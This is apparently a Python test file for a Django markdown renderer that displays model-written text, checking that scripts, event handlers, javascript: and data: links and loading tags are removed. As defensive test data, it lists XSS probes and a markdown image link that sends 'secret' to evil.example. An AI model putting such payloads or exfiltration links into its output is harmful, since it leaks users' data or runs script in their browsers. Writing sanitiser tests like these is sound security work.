"""What a model writes cannot do more in a page than be read."""

import re

import pytest
from django.utils.safestring import mark_safe
from hypothesis import given
from hypothesis import strategies as st

from altiplano.web.markdown import mark_places, render_markdown
from tests.factories.hostile import FORMS, live_parts, without_honest_links

TAGS_THAT_LOAD = (
    r"<(?:img|script|style|link|iframe|object|embed|svg|math|video|audio|source|form|base|meta)\b"
)


def test_render_markdown_keeps_the_shape_of_a_text():
    html = render_markdown("One **two**\n\n- three\n- four")
    assert html == "<p>One <strong>two</strong></p>\n<ul>\n<li>three</li>\n<li>four</li>\n</ul>\n"


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        '<a href="#" onclick="alert(1)">x</a>',
        "<svg/onload=alert(1)>",
        "<style>body{display:none}</style>",
    ],
)
def test_render_markdown_leaves_nothing_that_acts_or_loads(attack):
    html = render_markdown(attack)
    for opening in ("<script", "<img", "<svg", "<style", '<a href="javascript', '<a href="data'):
        assert opening not in html


def test_render_markdown_marks_links_as_untrusted():
    html = render_markdown("[rules](https://example.org/rules)")
    assert html == (
        '<p>rules (<a href="https://example.org/rules" rel="nofollow noopener noreferrer">'
        "https://example.org/rules</a>)</p>\n"
    )


LETTERS = st.text(alphabet="<>![]()`'\"\\/#|*_&; \n-ax", max_size=12)


def harmful(html: str) -> list[str]:
    return live_parts(without_honest_links(html)) + re.findall(TAGS_THAT_LOAD, html)


@pytest.mark.parametrize("form", FORMS, ids=str)
def test_c19_render_markdown_makes_text_of_each_form_wherever_it_is_cut(form):
    """An answer that was stopped is shown as far as it was said."""
    for end in range(1, len(form.text) + 1):
        assert harmful(render_markdown(form.text[:end])) == [], form.text[:end]


@given(st.lists(st.one_of(st.sampled_from(FORMS).map(lambda form: form.text), LETTERS)), st.data())
def test_c19_render_markdown_makes_text_of_forms_run_together(pieces, data):
    text = "".join(pieces)
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, len(text)))
    assert harmful(render_markdown(text[start:end])) == []


@pytest.mark.parametrize(
    "text",
    [
        "[here](https://c.example/?d=SECRET)",
        "[here][1]\n\n[1]: https://c.example/?d=SECRET 'title'",
        "[**he**_re_](<https://c.example/?d=SECRET>)",
        "<https://c.example/?d=SECRET>",
    ],
)
def test_render_markdown_shows_where_a_link_leads(text):
    html = render_markdown(text)
    assert html.count("<a ") == 1
    assert ">https://c.example/?d=SECRET</a>" in html


@pytest.mark.parametrize("address", ["/organization/delete/", "//c.example/x", "?next=1", "#top"])
def test_render_markdown_links_nowhere_within_the_portal(address):
    html = render_markdown(f"[press here]({address})")
    assert html == f"<p>press here ({address})</p>\n"


def test_render_markdown_puts_headings_below_those_of_the_page():
    assert render_markdown("# Big\n## Less") == "<h3>Big</h3>\n<h4>Less</h4>\n"


def test_render_markdown_replaces_marks_by_their_html():
    text = mark_places("One. Two.", [(4, 0), (9, 1)])
    html = render_markdown(text, [mark_safe("<b>1</b>"), mark_safe("<b>2</b>")])
    assert html == "<p>One.<b>1</b> Two.<b>2</b></p>\n"


@given(
    st.text(max_size=200), st.lists(st.tuples(st.integers(0, 200), st.integers(0, 3)), max_size=5)
)
def test_mark_places_adds_marks_and_changes_nothing_else(text, places):
    places = [(min(offset, len(text)), number) for offset, number in places]
    marked = mark_places(text, places)
    plain = text.replace("\ue000", " ").replace("\ue001", " ")
    for _, number in places:
        marked = marked.replace(f"\ue000{number}\ue001", "", 1)
    assert marked == plain
